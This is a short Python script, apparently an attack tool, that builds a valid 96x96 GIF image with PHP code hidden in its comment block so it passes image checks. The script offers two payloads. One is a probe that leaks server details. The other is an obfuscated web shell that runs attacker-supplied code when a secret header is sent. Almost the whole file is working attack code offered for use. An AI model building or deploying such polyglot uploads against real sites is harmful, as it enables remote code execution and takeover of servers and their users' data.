#!/usr/bin/env python3
"""The attacker's profile pictures: a real 96x96 GIF89a (getimagesize() and
`file` see a GIF) whose comment extension holds PHP code in one sub-block,
so the file is both a picture and a PHP script.

  avatar-gif.py probe FILE   the code prints PHP's version, OS, SAPI, disable_functions and cwd
  avatar-gif.py shell FILE   the web shell: with header X-Fc: 7c1e, eval() of the
                             reversed base64 in POST d
"""
import struct, sys

CODE = {
    "probe": b"<?php echo \"\\n:\", PHP_VERSION, \"|\", PHP_OS, \"|\", php_sapi_name(), \"|\", ini_get('disable_functions'), \"|\", getcwd(), \":\\n\"; exit; ?>",
    "shell": b"<?php if (($_SERVER['HTTP_X_FC'] ?? '') === '7c1e') { @eval(base64_decode(strrev($_POST['d'] ?? ''))); exit; } ?>",
}

def build(code):
    assert len(code) < 255 and b"\x00" not in code
    pal = bytes((0x2b, 0x4a, 0x6f, 0xf0, 0xf0, 0xf0))
    data = b"GIF89a" + struct.pack("<HHBBB", 96, 96, 0x80, 0, 0) + pal
    data += b"\x21\xfe" + bytes([len(code)]) + code + b"\x00"          # comment extension
    data += b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x44\x01\x00" + b"\x3b"
    return data

if __name__ == "__main__":
    open(sys.argv[2], "wb").write(build(CODE[sys.argv[1]]))
